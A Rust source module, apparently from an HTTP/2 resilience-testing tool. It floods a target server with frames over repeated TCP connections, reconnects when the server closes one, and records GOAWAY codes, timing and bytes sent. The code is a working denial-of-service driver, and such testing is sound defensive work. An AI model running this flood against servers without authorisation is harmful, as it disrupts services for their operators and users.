//! Sends frames as fast as possible, on one connection at a time; opens a new connection when the
//! server closes one.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{Shutdown, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    thread,
    time::{Duration, Instant},
};

use crate::{
    Result,
    attacks::Found,
    frames::{self, Frame},
};

const PAUSE: Duration = Duration::from_millis(10);
const WRITE_MAX: Duration = Duration::from_secs(1);

/// The bytes that follow the preface: `first`, then `piece(0)`, `piece(1)` and so on, without end.
pub(crate) struct Flood {
    pub(crate) first: Vec<u8>,
    pub(crate) piece: fn(u32) -> Vec<u8>,
}

/// How one connection ended.
struct Ended {
    goaway: Option<u32>,
    after: Option<Duration>,
    bytes: u64,
}

pub(crate) fn run(target: SocketAddr, flood: &Flood, until: Instant) -> Result<Found> {
    let mut found = Found::default();
    let (mut bytes, mut closed, mut first) = (0, 0, None);
    while Instant::now() < until {
        let Ok(stream) = TcpStream::connect(target) else {
            thread::sleep(PAUSE);
            continue;
        };
        let ended = connection(stream, flood, until)?;
        bytes += ended.bytes;
        found.goaway = ended.goaway.or(found.goaway);
        if let Some(after) = ended.after {
            closed += 1;
            first.get_or_insert(after);
        }
    }
    found.closed = closed;
    let mib = bytes as f64 / f64::from(1 << 20);
    found.note = match first {
        Some(first) => format!("{mib:.0} MiB, first closed after {} ms", first.as_millis()),
        None => format!("{mib:.0} MiB, not closed"),
    };
    Ok(found)
}

fn connection(mut stream: TcpStream, flood: &Flood, until: Instant) -> Result<Ended> {
    stream.set_write_timeout(Some(WRITE_MAX))?;
    let reader = stream.try_clone()?;
    let is_closed = Arc::new(AtomicBool::new(false));
    let closed = Arc::clone(&is_closed);
    let read = thread::spawn(move || drain(reader, &closed));
    let (began, mut bytes) = (Instant::now(), 0);
    let mut next = [&frames::preface(&[])[..], &flood.first].concat();
    for number in 0.. {
        let written = write(&mut stream, &next, until);
        bytes += next.len() as u64;
        if !written || is_closed.load(Relaxed) || Instant::now() >= until {
            break;
        }
        next = (flood.piece)(number);
    }
    let by_server = Instant::now() < until;
    let after = by_server.then(|| began.elapsed());
    // The server's last frames may still be on their way.
    let _ = stream.shutdown(if by_server { Shutdown::Write } else { Shutdown::Both });
    let goaway = read.join().map_err(|_| "the reader panicked")?;
    Ok(Ended { goaway, after, bytes })
}

/// Writes all bytes, however slowly the server reads; false if the connection or the time has
/// ended.
fn write(stream: &mut TcpStream, mut bytes: &[u8], until: Instant) -> bool {
    while !bytes.is_empty() {
        match stream.write(bytes) {
            Ok(written) => bytes = &bytes[written..],
            Err(error) if error.kind() == ErrorKind::WouldBlock && Instant::now() < until => {}
            Err(_) => return false,
        }
    }
    true
}

/// Reads to the end; returns the code of the last GOAWAY.
fn drain(mut reader: TcpStream, is_closed: &AtomicBool) -> Option<u32> {
    let (mut read, mut piece, mut goaway) = (Vec::new(), vec![0; 64 << 10], None);
    // If the server neither sends anything nor closes the connection, the attack ends this by
    // shutting the stream down.
    let _ = reader.set_read_timeout(Some(Duration::from_secs(90)));
    while let Ok(length @ 1..) = reader.read(&mut piece) {
        read.extend_from_slice(&piece[..length]);
        while let Some(frame) = Frame::take(&mut read) {
            goaway = frame.goaway().or(goaway);
        }
    }
    is_closed.store(true, Relaxed);
    goaway
}
